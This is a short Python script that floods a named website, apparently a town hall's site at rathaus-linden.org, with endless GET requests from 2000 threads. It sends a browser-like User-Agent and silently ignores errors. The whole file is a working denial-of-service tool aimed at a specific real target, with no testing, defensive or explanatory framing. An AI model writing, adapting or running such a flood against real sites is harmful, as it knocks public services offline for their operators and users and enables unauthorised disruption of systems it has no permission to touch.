import threading

import requests

TARGET = "https://www.rathaus-linden.org/"


def hit():
    while True:
        try:
            requests.get(TARGET, timeout=2, headers={"User-Agent": "Mozilla/5.0"})
        except requests.RequestException:
            pass


for _ in range(2000):
    threading.Thread(target=hit).start()
